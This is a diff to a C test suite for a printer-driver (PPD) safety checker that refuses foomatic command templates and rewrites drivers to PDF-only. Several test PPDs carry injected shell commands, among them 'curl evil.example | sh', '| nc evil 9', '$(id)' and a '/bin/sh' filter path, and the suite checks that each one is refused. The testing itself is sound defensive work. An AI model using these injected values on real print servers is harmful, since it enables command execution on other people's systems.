@@ -1,7 +1,8 @@
 /*
- * The PPD checks: real distribution PPDs pass, a foomatic PPD passes only
- * with its command templates on the allow list, and each way a PPD from the
- * wire could make the guest run something else is refused with its reason.
+ * The PPD checks: real distribution PPDs pass, every command template is
+ * refused whatever it holds (a foomatic PPD passes only once rewritten for
+ * PDF), and each way a PPD from the wire could make the guest run something
+ * else is refused with its reason.
  */
 #pragma GCC diagnostic ignored "-Wdeprecated-declarations"
 
@@ -87,9 +88,9 @@ slurp(const char *path, size_t *len)
 }
 
 static struct ppd_policy
-policy(const char *allow)
+policy(void)
 {
-	struct ppd_policy pol = { 4 << 20, FILTER_DIR, NULL, allow };
+	struct ppd_policy pol = { 4 << 20, FILTER_DIR, NULL };
 
 	return pol;
 }
@@ -131,58 +132,116 @@ expect_ok_len(const char *ppd, size_t len, const struct ppd_policy *pol)
 
 #define expect_ok(ppd, pol) expect_ok_len(ppd, strlen(ppd), pol)
 
-struct hashes {
-	char list[65536];	/* space-separated, as an allow list */
-	int n;
-	char last_keyword[128];
-	char last_hex[65];
-};
+#define REWRITE_HDR "*% Rewritten by printredir: jobs leave this queue as PDF " \
+	"for the host's driver.\n" \
+	"*cupsFilter2: \"application/vnd.cups-pdf application/pdf 0 -\"\n" \
+	"*cupsManualCopies: False\n"
 
-static void
-collect(const char *keyword, const char hex[65], void *arg)
+static char *
+to_crlf(const char *text)
 {
-	struct hashes *h = arg;
-	size_t o = strlen(h->list);
+	char *out = malloc(2 * strlen(text) + 1), *o = out;
 
-	ck_assert_int_eq(strlen(hex), 64);
-	ck_assert_uint_lt(o + 66, sizeof(h->list));
-	snprintf(h->list + o, sizeof(h->list) - o, "%s%s", o ? " " : "", hex);
-	snprintf(h->last_keyword, sizeof(h->last_keyword), "%s", keyword);
-	snprintf(h->last_hex, sizeof(h->last_hex), "%s", hex);
-	h->n++;
+	ck_assert_ptr_nonnull(out);
+	for (; *text != '\0'; text++) {
+		if (*text == '\n')
+			*o++ = '\r';
+		*o++ = *text;
+	}
+	*o = '\0';
+	return out;
 }
 
-static void
-sha256_hex(const char *s, char hex[65])
+/*
+ * Statements whose keyword is kw (or starts with it, when prefix is set),
+ * counted line by line: the rewritten drivers keep foomatic's keywords in
+ * choice code ("%% FoomaticRIPOptionSetting"), which is no statement.
+ */
+static int
+count_statements(const char *text, size_t len, const char *kw, int prefix)
 {
-	unsigned char hash[32];
+	const char *end = text + len, *nl;
+	size_t n = strlen(kw);
+	int count = 0;
 
-	ck_assert_int_eq(cupsHashData("sha2-256", s, strlen(s), hash, sizeof(hash)), 32);
-	ck_assert_ptr_nonnull(cupsHashString(hash, sizeof(hash), hex, 65));
+	for (const char *l = text; l < end; l = nl ? nl + 1 : end) {
+		nl = memchr(l, '\n', (size_t)(end - l));
+		if (l[0] == '*' && (size_t)(end - l) > n + 1 &&
+		    strncasecmp(l + 1, kw, n) == 0 &&
+		    (prefix || strchr(":/ \t", l[1 + n]) != NULL))
+			count++;
+	}
+	return count;
+}
+
+/* Asserts a refusal for the template at where: "*KEYWORD on line N". */
+#define expect_template(ppd, pol, where, ...) \
+	expect_refused(ppd, pol, "command template " where, \
+	    "nothing of a driver may run in the guest", __VA_ARGS__)
+
+static char *
+rewrite_ok(const char *ppd, size_t len, size_t *outlen)
+{
+	char err[512] = "", *out = (char *)1;
+	int rc = ppd_rewrite_pdf(ppd, len, SIZE_MAX, &out, outlen, err, sizeof(err));
+
+	ck_assert_msg(rc == 0, "rewrite failed (%d): %s", rc, err);
+	ck_assert_ptr_nonnull(out);
+	ck_assert_uint_eq(strlen(out), *outlen);
+	return out;
+}
+
+/*
+ * Checks ppd (len bytes, changed in place) until it passes, each time taking
+ * the keyword of the command template the check refused out of play ("*Foo"
+ * becomes "*Xoo", same length): every refusal must be for a template, and
+ * the count is how many templates were refused one by one.
+ */
+static int
+refuse_each_template(char *ppd, size_t len, const struct ppd_policy *pol)
+{
+	char err[512];
+	int n = 0, rc;
+
+	while ((rc = check(ppd, len, pol, err, sizeof(err))) == -EPERM) {
+		const char *at = strstr(err, " on line ");
+		char *l = ppd;
+
+		ck_assert_msg(strncmp(err, "command template *", 18) == 0 &&
+		    at != NULL, "not refused for a template: %s", err);
+		ck_assert_msg(strstr(err, "nothing of a driver may run in the guest"),
+		    "%s", err);
+		for (int i = atoi(at + 9); i > 1; i--) {
+			l = memchr(l, '\n', len - (size_t)(l - ppd));
+			ck_assert_ptr_nonnull(l++);
+		}
+		ck_assert_msg(l[0] == '*' && l[1] != 'X', "%s", err);
+		l[1] = 'X';
+		ck_assert_int_lt(++n, 1000);
+	}
+	ck_assert_msg(rc == 0, "refused (%d): %s", rc, err);
+	return n;
 }
 
 START_TEST(generic_pdf_printer_passes)
 {
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 	char nick[128], err[256];
 	size_t len;
 	char *ppd = slurp(GENERIC_PDF, &len);
-	struct hashes h = { .n = 0 };
 
 	expect_ok_len(ppd, len, &pol);
 	/* Regression: ppdOpen() on fmemopen() failed for every PPD. */
 	ck_assert_int_eq(ppd_check_parse(ppd, len, nick, sizeof(nick), err,
 	    sizeof(err)), 0);
 	ck_assert_str_eq(nick, "Generic PDF Printer");
-	ck_assert_int_eq(ppd_command_hashes(ppd, len, collect, &h), 0);
-	ck_assert_int_eq(h.n, 0);
 	free(ppd);
 }
 END_TEST
 
 START_TEST(distribution_ppds_pass)
 {
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 	glob_t g;
 
 	ck_assert_int_eq(glob("/usr/share/ppd/cupsfilters/*.ppd", 0, NULL, &g), 0);
@@ -198,34 +257,25 @@ START_TEST(distribution_ppds_pass)
 }
 END_TEST
 
-START_TEST(foomatic_ppd_needs_its_hashes)
+START_TEST(foomatic_ppd_is_refused)
 {
-	static struct hashes h, fewer;
-	struct ppd_policy pol = policy(NULL);
-	char *crlf;
-	size_t n = 0;
+	struct ppd_policy pol = policy();
+	char *copy, *crlf, *out;
+	size_t n = 0, outlen;
 
+	/* foomatic-rip is installed: its command line is what is refused. */
 	expect_refused_len(foomatic_ppd, foomatic_len, &pol, "command template",
-	    "*FoomaticRIPCommandLine on line 54", "not on the allow list",
-	    "(printf", (const char *)NULL);
-	ck_assert_int_eq(ppd_command_hashes(foomatic_ppd, foomatic_len, collect,
-	    &h), 0);
-	ck_assert_int_gt(h.n, 10);
-	pol = policy(h.list);
-	expect_ok_len(foomatic_ppd, foomatic_len, &pol);
+	    "*FoomaticRIPCommandLine on line 54",
+	    "nothing of a driver may run in the guest", "(printf",
+	    (const char *)NULL);
+	/* So is every template after it, down to the last option setting. */
+	copy = malloc(foomatic_len);
+	ck_assert_ptr_nonnull(copy);
+	memcpy(copy, foomatic_ppd, foomatic_len);
+	ck_assert_int_gt(refuse_each_template(copy, foomatic_len, &pol), 30);
+	free(copy);
 
-	/* Without every copy of the last hash, that template is refused. */
-	for (char *t = strtok(h.list, " "); t != NULL; t = strtok(NULL, " "))
-		if (strcmp(t, h.last_hex) != 0)
-			collect("", t, &fewer);
-	pol = policy(fewer.list);
-	expect_refused_len(foomatic_ppd, foomatic_len, &pol, h.last_hex,
-	    "not on the allow list", (const char *)NULL);
-	ck_assert_int_eq(ppd_command_hashes(foomatic_ppd, foomatic_len, collect,
-	    memset(&h, 0, sizeof(h))), 0);
-	pol = policy(h.list);
-
-	/* The same driver with CRLF line ends has the same templates. */
+	/* The same driver with CRLF line ends is refused the same way. */
 	crlf = malloc(2 * foomatic_len);
 	ck_assert_ptr_nonnull(crlf);
 	for (size_t i = 0; i < foomatic_len; i++) {
@@ -233,14 +283,20 @@ START_TEST(foomatic_ppd_needs_its_hashes)
 			crlf[n++] = '\r';
 		crlf[n++] = foomatic_ppd[i];
 	}
-	expect_ok_len(crlf, n, &pol);
+	expect_refused_len(crlf, n, &pol, "*FoomaticRIPCommandLine on line 54",
+	    "nothing of a driver may run in the guest", (const char *)NULL);
 	free(crlf);
+
+	/* Rewritten, it has none left and passes. */
+	out = rewrite_ok(foomatic_ppd, foomatic_len, &outlen);
+	expect_ok_len(out, outlen, &pol);
+	free(out);
 }
 END_TEST
 
 START_TEST(filter_not_installed)
 {
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 
 	expect_refused(HDR "*cupsFilter2: \"application/pdf application/vnd.cups-pdf"
 	    "  0   nosuchfilter\"\n", &pol, "filter \"nosuchfilter\"",
@@ -258,7 +314,7 @@ END_TEST
 
 START_TEST(filter_outside_the_filter_folder)
 {
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 
 	expect_refused(HDR "*cupsFilter: \"application/pdf 0 /bin/sh\"\n", &pol,
 	    "filter \"/bin/sh\"", "*cupsFilter on line 5", "is outside " FILTER_DIR);
@@ -282,7 +338,7 @@ END_TEST
 START_TEST(symlink_escape)
 {
 	char dir[512], path[600], err[512];
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 	const char *ppd_good = HDR "*cupsFilter: \"application/pdf 0 good\"\n";
 	const char *ppd_evil = HDR "*cupsFilter: \"application/pdf 0 evil\"\n";
 	const char *ppd_data = HDR "*cupsFilter: \"application/pdf 0 data\"\n";
@@ -320,28 +376,60 @@ START_TEST(command_template_injection)
 	const char *ppd = HDR FOOMATIC_FILTER
 	    "*FoomaticRIPCommandLine: \"gs -q -sDEVICE=pxlmono -sOutputFile=- -; "
 	    "curl evil.example | sh\"\n";
-	struct hashes h = { .n = 0 };
-	struct ppd_policy pol = policy("");
+	static const char *const each[] = {
+		HDR FOOMATIC_FILTER "*FoomaticRIPPostPipe: \"| nc evil 9\"\n",
+		HDR FOOMATIC_FILTER "*FoomaticRIPCommandLinePDF: \"gs;id\"\n",
+		HDR FOOMATIC_FILTER "*FoomaticRIPOptionSetting Res=600: \" -r600;id\"\n",
+		HDR FOOMATIC_FILTER "*FoomaticRIPOptionPrototype Res: \" -r%s;id\"\n",
+	};
+	struct ppd_policy pol = policy();
+	char *out;
+	size_t outlen;
 
-	expect_refused(ppd, &pol, "command template *FoomaticRIPCommandLine on line 6",
-	    "not on the allow list", "; curl evil.example");
-	/* The hash is of the value libcups returns, allowed it passes. */
-	ck_assert_int_eq(ppd_command_hashes(ppd, strlen(ppd), collect, &h), 0);
-	ck_assert_int_eq(h.n, 1);
-	ck_assert_str_eq(h.last_keyword, "FoomaticRIPCommandLine");
-	pol = policy(h.list);
-	expect_ok(ppd, &pol);
+	expect_template(ppd, &pol, "*FoomaticRIPCommandLine on line 6",
+	    "; curl evil.example");
+	expect_template(each[0], &pol, "*FoomaticRIPPostPipe on line 6",
+	    "| nc evil 9");
+	expect_template(each[1], &pol, "*FoomaticRIPCommandLinePDF on line 6",
+	    "gs;id");
+	expect_template(each[2], &pol, "*FoomaticRIPOptionSetting Res=600 on "
+	    "line 6", "-r600;id");
+	expect_template(each[3], &pol, "*FoomaticRIPOptionPrototype Res on line 6",
+	    "-r%s;id");
+	/* The rewrite takes every one of them out, and foomatic-rip with it. */
+	out = rewrite_ok(ppd, strlen(ppd), &outlen);
+	ck_assert_str_eq(out, "*PPD-Adobe: \"4.3\"\n" REWRITE_HDR
+	    "*FormatVersion: \"4.3\"\n*LanguageVersion: English\n"
+	    "*NickName: \"Test\"\n");
+	expect_ok_len(out, outlen, &pol);
+	free(out);
+	for (size_t i = 0; i < sizeof(each) / sizeof(each[0]); i++) {
+		out = rewrite_ok(each[i], strlen(each[i]), &outlen);
+		ck_assert_int_eq(count_statements(out, outlen, "FoomaticRIP", 1), 0);
+		expect_ok_len(out, outlen, &pol);
+		free(out);
+	}
+}
+END_TEST
 
-	expect_refused(HDR FOOMATIC_FILTER "*FoomaticRIPPostPipe: \"| nc evil 9\"\n",
-	    &pol, "*FoomaticRIPPostPipe on line 6", "| nc evil 9");
-	expect_refused(HDR FOOMATIC_FILTER "*FoomaticRIPCommandLinePDF: \"gs;id\"\n",
-	    &pol, "*FoomaticRIPCommandLinePDF on line 6");
-	expect_refused(HDR FOOMATIC_FILTER
-	    "*FoomaticRIPOptionSetting Res=600: \" -r600;id\"\n", &pol,
-	    "*FoomaticRIPOptionSetting Res=600 on line 6", "-r600;id");
-	expect_refused(HDR FOOMATIC_FILTER
-	    "*FoomaticRIPOptionPrototype Res: \" -r%s;id\"\n", &pol,
-	    "*FoomaticRIPOptionPrototype Res on line 6");
+START_TEST(templates_refused_whatever_they_hold)
+{
+	struct ppd_policy pol = policy();
+
+	/* A plain renderer command line, harmless as it is. */
+	expect_template(HDR FOOMATIC_FILTER "*FoomaticRIPCommandLine: \"gs -q "
+	    "-dSAFER -sDEVICE=pxlmono -sOutputFile=- -\"\n", &pol,
+	    "*FoomaticRIPCommandLine on line 6", "\"gs -q -dSAFER -sDEVICE=pxlmono");
+	/* Nothing at all, and no foomatic-rip to run it. */
+	expect_template(HDR "*FoomaticRIPCommandLine: \"\"\n", &pol,
+	    "*FoomaticRIPCommandLine on line 5", ": \"\"");
+	expect_template(HDR "*FoomaticRIPOptionSetting Res=600: \"\"\n", &pol,
+	    "*FoomaticRIPOptionSetting Res=600 on line 5", ": \"\"");
+	expect_template(HDR "*FoomaticRIPPostPipe: \"cat\"\n", &pol,
+	    "*FoomaticRIPPostPipe on line 5", "\"cat\"");
+	/* The keyword counts, not its case. */
+	expect_refused(HDR "*foomaticripcommandline: \"gs\"\n", &pol,
+	    "command template *foomaticripcommandline on line 5");
 }
 END_TEST
 
@@ -350,56 +438,76 @@ START_TEST(multi_line_command_line)
 	const char *ppd = HDR FOOMATIC_FILTER
 	    "*FoomaticRIPCommandLine: \"gs -q -dSAFER &&\n"
 	    "-sDEVICE=pxlmono %A&&\n"
-	    "-sOutputFile=- -\"\n*End\n";
-	char hex[65], allow[80];
-	struct ppd_policy pol = policy(NULL);
+	    "-sOutputFile=- -\"\n*End\n*DefaultColorSpace: Gray\n";
+	struct ppd_policy pol = policy();
+	char *crlf = to_crlf(ppd), *out;
+	size_t outlen;
 
-	expect_refused(ppd, &pol, "*FoomaticRIPCommandLine on line 6",
+	/* The sample is the value as libcups hands it back: "&&" and newlines
+	 * kept, and escaped. */
+	expect_template(ppd, &pol, "*FoomaticRIPCommandLine on line 6",
 	    "gs -q -dSAFER &&\\n-sDEVICE");
-	/* Hashed as libcups hands it back: "&&" and newlines kept. */
-	sha256_hex("gs -q -dSAFER &&\n-sDEVICE=pxlmono %A&&\n-sOutputFile=- -", hex);
-	snprintf(allow, sizeof(allow), "%s", hex);
-	pol = policy(allow);
-	expect_ok(ppd, &pol);
-	/* Upper case, commas and spaces are all fine in the allow list. */
-	for (char *p = allow; *p; p++)
-		if (*p >= 'a' && *p <= 'f')
-			*p = (char)(*p - 'a' + 'A');
-	snprintf(allow + 64, sizeof(allow) - 64, ", ,");
-	expect_ok(ppd, &pol);
+	expect_template(crlf, &pol, "*FoomaticRIPCommandLine on line 6",
+	    "-dSAFER &&");
+	/* The rewrite drops all of its lines, and its *End, but nothing after. */
+	out = rewrite_ok(ppd, strlen(ppd), &outlen);
+	ck_assert_str_eq(out, "*PPD-Adobe: \"4.3\"\n" REWRITE_HDR
+	    "*FormatVersion: \"4.3\"\n*LanguageVersion: English\n"
+	    "*NickName: \"Test\"\n*DefaultColorSpace: Gray\n");
+	expect_ok_len(out, outlen, &pol);
+	free(out);
+	free(crlf);
 }
 END_TEST
 
 START_TEST(cmdline_option_code_is_a_template)
 {
-	/* The command line is harmless; the option pasted into %A is not. */
-	const char *ppd = HDR FOOMATIC_FILTER
-	    "*FoomaticRIPCommandLine: \"gs -q %A -sOutputFile=- -\"\n"
+	/* No command line, but the option foomatic-rip would paste into %A. */
+	const char *options = HDR FOOMATIC_FILTER
 	    "*FoomaticRIPOption Res: enum CmdLine A\n"
-	    "*OpenUI *Res: PickOne\n*DefaultRes: 600\n"
-	    "*Res 600: \"; id >/tmp/owned;\"\n"
-	    "*Res 300: \"%% FoomaticRIPOptionSetting: Res=300\"\n"
-	    "*CloseUI: *Res\n"
-	    "*FoomaticRIPOption Name: string CmdLine B\n"
-	    "*FoomaticRIPOptionMaxLength Name: 20\n*DefaultName: $(id)\n";
-	char hex[65], allow[200];
-	struct ppd_policy pol;
+	    "*OpenUI *Res: PickOne\n*DefaultRes: 600\n";
+	const char *marked = "*Res 300: \"%% FoomaticRIPOptionSetting: Res=300\"\n"
+	    "*CloseUI: *Res\n";
+	struct ppd_policy pol = policy();
+	char ppd[1024];
 
-	sha256_hex("gs -q %A -sOutputFile=- -", hex);
-	pol = policy(hex);
-	expect_refused(ppd, &pol, "command template *Res 600 on line 10",
-	    "id >/tmp/owned;");
-	sha256_hex("; id >/tmp/owned;", allow);
-	snprintf(allow + 64, sizeof(allow) - 64, " %s", hex);
-	pol = policy(allow);
+	/* Choice code that only points at an option setting is no template. */
+	snprintf(ppd, sizeof(ppd), "%s%s", options, marked);
+	expect_ok(ppd, &pol);
+	snprintf(ppd, sizeof(ppd), "%s*Res 600: \"; id >/tmp/owned;\"\n%s",
+	    options, marked);
+	expect_refused(ppd, &pol, "command template *Res 600 on line 9",
+	    "nothing of a driver may run in the guest", "id >/tmp/owned;");
+	/* Even empty, it is. */
+	snprintf(ppd, sizeof(ppd), "%s*Res 600: \"\"\n%s", options, marked);
+	expect_refused(ppd, &pol, "command template *Res 600 on line 9");
+	/* libcups sees the mark, foomatic-rip a value that does not start with
+	 * it: the value cannot tell, and counts as a template. */
+	snprintf(ppd, sizeof(ppd), "%s*Res 600: x%%%% FoomaticRIPOptionSetting: "
+	    "\"$(id)\"\n%s", options, marked);
+	expect_refused(ppd, &pol, "command template *Res 600 on line 9",
+	    "with stray quotes", "$(id)");
+	/* The custom choice's code is pasted too. */
+	snprintf(ppd, sizeof(ppd), "%s%s*CustomRes True: \"-r%%s\"\n", options,
+	    marked);
+	expect_refused(ppd, &pol, "command template *CustomRes True on line 11",
+	    "-r%s");
 	/* A default that is not a choice is pasted as text. */
-	expect_refused(ppd, &pol, "*DefaultName on line 15", "$(id)");
+	snprintf(ppd, sizeof(ppd), "%s%s*FoomaticRIPOption Name: string CmdLine B\n"
+	    "*FoomaticRIPOptionMaxLength Name: 20\n*DefaultName: $(id)\n",
+	    options, marked);
+	expect_refused(ppd, &pol, "command template *DefaultName on line 13",
+	    "$(id)");
+	snprintf(ppd, sizeof(ppd), "%s%s*FoomaticRIPDefaultRes: `id`\n", options,
+	    marked);
+	expect_refused(ppd, &pol, "command template *FoomaticRIPDefaultRes on "
+	    "line 11", "`id`");
 }
 END_TEST
 
 START_TEST(prefilter_missing)
 {
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 
 	expect_refused(HDR "*cupsPreFilter: \"application/vnd.cups-postscript 0 "
 	    "psprefilter\"\n", &pol, "filter \"psprefilter\"",
@@ -410,7 +518,7 @@ END_TEST
 START_TEST(port_monitor)
 {
 	char dir[512];
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 	const char *ok = HDR "*cupsPortMonitor socket/TBCP: \"tbcp\"\n"
 	    "*cupsPortMonitor usb/None: \"none\"\n";
 
@@ -432,8 +540,7 @@ START_TEST(garbage_and_empty)
 	static const unsigned char junk[] = {
 		0x7f, 'E', 'L', 'F', 0x02, 0x01, 0x01, 0x00, 0xff, 0xfe, '\n'
 	};
-	struct ppd_policy pol = policy(NULL);
-	struct hashes h = { .n = 0 };
+	struct ppd_policy pol = policy();
 	char err[256];
 
 	expect_refused("", &pol, "driver is empty");
@@ -443,10 +550,7 @@ START_TEST(garbage_and_empty)
 	    "PPD does not parse", "line 2");
 	expect_refused_len((const char *)junk, sizeof(junk), &pol,
 	    "control character 0x02 on line 1", (const char *)NULL);
-	ck_assert_int_eq(ppd_command_hashes("hello\n", 6, collect, &h), -EBADMSG);
-	ck_assert_int_eq(ppd_command_hashes("", 0, collect, &h), -EBADMSG);
 	ck_assert_int_eq(ppd_check_parse("", 0, NULL, 0, err, sizeof(err)), -EBADMSG);
-	ck_assert_int_eq(h.n, 0);
 }
 END_TEST
 
@@ -454,7 +558,7 @@ START_TEST(size_cap)
 {
 	const char *ppd = HDR "*cupsFilter: \"application/vnd.cups-pdf 0 -\"\n";
 	size_t len = strlen(ppd);
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 	char err[256], want[128];
 
 	pol.max_size = len;
@@ -470,7 +574,7 @@ END_TEST
 START_TEST(binary_bytes)
 {
 	static const char nul[] = HDR "*FoomaticRIPCommandLine: \"gs\0; id\"\n";
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 
 	expect_refused_len(nul, sizeof(nul) - 1, &pol, "NUL byte on line 5",
 	    (const char *)NULL);
@@ -484,8 +588,7 @@ END_TEST
 
 START_TEST(readers_must_agree)
 {
-	struct ppd_policy pol = policy(NULL);
-	struct hashes h = { .n = 0 };
+	struct ppd_policy pol = policy();
 	/* A real Lexmark quirk: harmless, so accepted. */
 	const char *lexmark = HDR "* DefaultScreenProc: \"Dot\"\n";
 	/* An odd number of quotes keeps libcups' value going. */
@@ -494,8 +597,6 @@ START_TEST(readers_must_agree)
 
 	expect_refused(hidden, &pol, "line 7", "foomatic-rip reads keyword "
 	    "*FoomaticRIPCommandLine here, libcups part of another line's value");
-	ck_assert_int_eq(ppd_command_hashes(hidden, strlen(hidden), collect, &h),
-	    -EPERM);
 	expect_refused(HDR FOOMATIC_FILTER "*Foo: x \"\n*FoomaticRIPCommandLine: "
 	    "\"id\"\n*Bar: \"\n", &pol, "line 7", "foomatic-rip reads keyword");
 	/* libcups files it as a choice, foomatic-rip as the command line. */
@@ -510,7 +611,7 @@ START_TEST(readers_must_agree)
 	    "*Zap: \";id\"\n", &pol, "line 7: foomatic-rip reads this line as "
 	    "part of the value of *FoomaticRIPCommandLine");
 	expect_refused(HDR FOOMATIC_FILTER "*FoomaticRIPCommandLine: x\"gs\"\n",
-	    &pol, "*FoomaticRIPCommandLine on line 6 has stray quotes");
+	    &pol, "*FoomaticRIPCommandLine on line 6 (with stray quotes");
 	expect_refused(HDR "*%APLWORKSET START\n*FoomaticRIPCommandLine: \"id\"\n",
 	    &pol, "line 5: *%APLWORKSET START hides the rest");
 	expect_refused(HDR "*Include: \"/etc/cups/secret.ppd\"\n", &pol,
@@ -521,7 +622,7 @@ END_TEST
 
 START_TEST(repeated_keywords)
 {
-	struct ppd_policy pol = policy(NULL);
+	struct ppd_policy pol = policy();
 
 	/* libcups leaks the first of these; found by fuzz_ppd. */
 	expect_refused(HDR "*NickName: \"Again\"\n", &pol,
@@ -540,14 +641,15 @@ END_TEST
 START_TEST(bad_policy)
 {
 	const char *ppd = HDR;
-	struct ppd_policy pol = policy("0123 abc");
+	struct ppd_policy pol = policy();
 	char err[256];
 
-	ck_assert_int_eq(check(ppd, strlen(ppd), &pol, err, sizeof(err)), -EINVAL);
-	ck_assert_msg(strstr(err, "allow list entry \"0123\""), "%s", err);
-	pol = policy(NULL);
 	pol.filter_dir = NULL;
 	ck_assert_int_eq(check(ppd, strlen(ppd), &pol, err, sizeof(err)), -EINVAL);
+	ck_assert_str_eq(err, "no filter folder to check the driver against");
+	pol.filter_dir = "";
+	ck_assert_int_eq(check(ppd, strlen(ppd), &pol, err, sizeof(err)), -EINVAL);
+	ck_assert_int_eq(check(ppd, strlen(ppd), NULL, err, sizeof(err)), -EINVAL);
 }
 END_TEST
 
@@ -635,11 +737,6 @@ static const struct piece {
 	{ 0, "*CloseGroup: Quality\n*% End of the test driver\n" },
 };
 
-#define REWRITE_HDR "*% Rewritten by printredir: jobs leave this queue as PDF " \
-	"for the host's driver.\n" \
-	"*cupsFilter2: \"application/vnd.cups-pdf application/pdf 0 -\"\n" \
-	"*cupsManualCopies: False\n"
-
 /* The driver, and what the rewrite must make of it, with LF line ends. */
 static void
 foo_texts(char **in, char **want)
@@ -659,43 +756,6 @@ foo_texts(char **in, char **want)
 		if (i == 0)
 			strcat(*want, REWRITE_HDR);
 	}
-}
-
-static char *
-to_crlf(const char *text)
-{
-	char *out = malloc(2 * strlen(text) + 1), *o = out;
-
-	ck_assert_ptr_nonnull(out);
-	for (; *text != '\0'; text++) {
-		if (*text == '\n')
-			*o++ = '\r';
-		*o++ = *text;
-	}
-	*o = '\0';
-	return out;
-}
-
-/*
- * Statements whose keyword is kw (or starts with it, when prefix is set),
- * counted line by line: the rewritten drivers keep foomatic's keywords in
- * choice code ("%% FoomaticRIPOptionSetting"), which is no statement.
- */
-static int
-count_statements(const char *text, size_t len, const char *kw, int prefix)
-{
-	const char *end = text + len, *nl;
-	size_t n = strlen(kw);
-	int count = 0;
-
-	for (const char *l = text; l < end; l = nl ? nl + 1 : end) {
-		nl = memchr(l, '\n', (size_t)(end - l));
-		if (l[0] == '*' && (size_t)(end - l) > n + 1 &&
-		    strncasecmp(l + 1, kw, n) == 0 &&
-		    (prefix || strchr(":/ \t", l[1 + n]) != NULL))
-			count++;
-	}
-	return count;
 }
 
 /* libcups' parse of a PPD in memory, as cupsd would read it from a file. */
@@ -776,29 +836,17 @@ expect_same_options(const char *a, size_t alen, const char *b, size_t blen,
 	free(bnames);
 }
 
-/* The policy of a guest with no filters and no allowed templates. */
+/* The policy of a guest with no filters. */
 static struct ppd_policy
 no_filter_policy(void)
 {
 	static char dir[512];
-	struct ppd_policy pol = { 16 << 20, dir, NULL, "" };
+	struct ppd_policy pol = { 16 << 20, dir, NULL };
 
 	snprintf(dir, sizeof(dir), "%s/empty-filter", runner_tmpdir());
 	if (access(dir, F_OK) != 0)
 		ck_assert_int_eq(mkdir(dir, 0755), 0);
 	return pol;
-}
-
-static char *
-rewrite_ok(const char *ppd, size_t len, size_t *outlen)
-{
-	char err[512] = "", *out = (char *)1;
-	int rc = ppd_rewrite_pdf(ppd, len, SIZE_MAX, &out, outlen, err, sizeof(err));
-
-	ck_assert_msg(rc == 0, "rewrite failed (%d): %s", rc, err);
-	ck_assert_ptr_nonnull(out);
-	ck_assert_uint_eq(strlen(out), *outlen);
-	return out;
 }
 
 /* What every rewritten driver must be: parsed, safe, and free of programs. */
@@ -817,8 +865,8 @@ expect_pdf_only(const char *out, size_t outlen, const char *what)
 	struct ppd_policy pol = no_filter_policy();
 	char err[512] = "";
 
-	/* The check parses it with libcups, and an empty allow list passes no
-	 * command template. */
+	/* The check parses it with libcups, and refuses any command
+	 * template. */
 	ck_assert_msg(ppd_check_safe(out, outlen, &pol, err, sizeof(err)) == 0,
 	    "%s rewritten is refused: %s", what, err);
 	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
@@ -843,8 +891,7 @@ expect_text(const char *got, const char *want)
 
 START_TEST(rewrite_pdf_foomatic)
 {
-	struct ppd_policy pol = no_filter_policy();
-	struct hashes h = { .n = 0 };
+	struct ppd_policy pol = no_filter_policy(), filters = policy();
 	char *in, *want, *out, err[512];
 	size_t outlen;
 
@@ -858,8 +905,8 @@ START_TEST(rewrite_pdf_foomatic)
 	expect_text(out, want);
 	expect_pdf_only(out, outlen, "hand-written");
 	ck_assert_int_eq(ppd_check_parse(out, outlen, NULL, 0, err, sizeof(err)), 0);
-	ck_assert_int_eq(ppd_command_hashes(out, outlen, collect, &h), 0);
-	ck_assert_int_eq(h.n, 0);
+	/* Where foomatic-rip is installed, it passes too. */
+	expect_ok_len(out, outlen, &filters);
 	/* PageSize 2, PageRegion 2, InputSlot 3, Duplex 3, Resolution 2 and
 	 * Watermark 1 (libcups keeps its custom value apart). */
 	expect_same_options(in, strlen(in), out, outlen, 6, 13, "hand-written");
@@ -1014,7 +1061,7 @@ static const char sample_py[] =
 
 START_TEST(rewrite_pdf_openprinting)
 {
-	struct ppd_policy pol = no_filter_policy();
+	struct ppd_policy pol = no_filter_policy(), filters = policy();
 	char script[600], cmd[1400], line[600], err[512];
 	int total = 0, foomatic = 0;
 	FILE *f, *p;
@@ -1035,9 +1082,15 @@ START_TEST(rewrite_pdf_openprinting)
 		ck_assert_uint_eq(fread(ppd, 1, len, p), len);
 		ppd[len] = '\0';
 		if (strstr(ppd, "FoomaticRIPCommandLine") != NULL) {
-			/* Without the rewrite, the guest would need foomatic-rip. */
+			/* Without the rewrite, the guest would need foomatic-rip,
+			 * and with it, the templates are refused. */
 			ck_assert_msg(ppd_check_safe(ppd, len, &pol, err,
 			    sizeof(err)) == -EPERM, "%s passes as it is", name);
+			ck_assert_msg(ppd_check_safe(ppd, len, &filters, err,
+			    sizeof(err)) == -EPERM, "%s passes with foomatic-rip",
+			    name);
+			ck_assert_msg(strncmp(err, "command template *", 18) == 0,
+			    "%s is refused for another reason: %s", name, err);
 			foomatic++;
 		}
 		ck_assert_msg(ppd_rewrite_pdf(ppd, len, SIZE_MAX, &out, &outlen, err,
@@ -1070,11 +1123,12 @@ test_suite(void)
 		    "HL-5250DN driver");
 	tcase_add_test(tc, generic_pdf_printer_passes);
 	tcase_add_test(tc, distribution_ppds_pass);
-	tcase_add_test(tc, foomatic_ppd_needs_its_hashes);
+	tcase_add_test(tc, foomatic_ppd_is_refused);
 	tcase_add_test(tc, filter_not_installed);
 	tcase_add_test(tc, filter_outside_the_filter_folder);
 	tcase_add_test(tc, symlink_escape);
 	tcase_add_test(tc, command_template_injection);
+	tcase_add_test(tc, templates_refused_whatever_they_hold);
 	tcase_add_test(tc, multi_line_command_line);
 	tcase_add_test(tc, cmdline_option_code_is_a_template);
 	tcase_add_test(tc, prefilter_missing);
